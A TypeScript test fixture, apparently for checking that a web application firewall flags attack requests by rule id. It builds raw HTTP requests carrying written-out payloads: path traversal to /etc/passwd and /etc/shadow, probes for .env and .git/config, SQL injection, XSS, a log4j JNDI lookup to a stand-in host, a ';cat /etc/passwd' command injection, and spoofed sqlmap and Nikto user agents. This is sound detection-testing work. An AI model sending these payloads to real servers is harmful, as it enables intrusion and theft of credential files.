/** Headers that a browser sends. */
export const BROWSER = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36';

/** Returns a request as bytes. */
export const get = (path: string, ...lines: string[]) =>
  [`GET ${path} HTTP/1.1`, 'Host: 127.0.0.1', BROWSER, 'Accept: */*', 'Connection: close', ...lines, '', ''].join(
    '\r\n',
  );

export const encoded = (text: string) => encodeURIComponent(text);

/**
 * Attacks: name, request, and a pattern of acceptable rule ids, because rule sets differ in which rule of a family
 * scores highest.
 */
export const ATTACKS: readonly (readonly [string, string, RegExp])[] = [
  ['traversal, encoded', get('/%2e%2e%2f%2e%2e%2fetc/passwd'), /^930/],
  ['traversal, encoded twice', get('/a?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'), /^930/],
  ['traversal below a zone', get('/vz-1/..%2f..%2f..%2fetc/shadow'), /^930/],
  ['traversal by backslashes', get('/assets/..%5c..%5cwindows%5csystem32'), /^930/],
  ['a file of secrets', get('/.env'), /^930130$/],
  ['a repository', get('/.git/config'), /^930130$/],
  ['SQL', get(`/?id=${encoded('1 union select a,b from users')}`), /^942/],
  ['SQL that delays the response', get(`/?id=${encoded("1' or sleep(5)#")}`), /^942/],
  ['a script', get(`/?q=${encoded('<script>alert(1)</script>')}`), /^941/],
  ['an event handler', get(`/?q=${encoded('<img src=x onerror=alert(1)>')}`), /^941/],
  ['log4j in a query', get(`/?x=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
  // Debian's core rule set detects this only in arguments and cookies.
  ['log4j in a cookie', get('/', `Cookie: a=${encoded('$' + '{jndi:ldap://a.example/b}')}`), /^9(32130|44150)$/],
  ['a command', get(`/?c=${encoded(';cat /etc/passwd')}`), /^93[02]/],
];

/** Requests that are not attacks by themselves. They are logged, and get a normal response. */
export const SCANS: readonly (readonly [string, string, RegExp])[] = [
  ['sqlmap', get('/').replace(BROWSER, 'User-Agent: sqlmap/1.7'), /^913/],
  ['nikto', get('/').replace(BROWSER, 'User-Agent: Mozilla/5.00 (Nikto/2.1.6)'), /^913/],
];
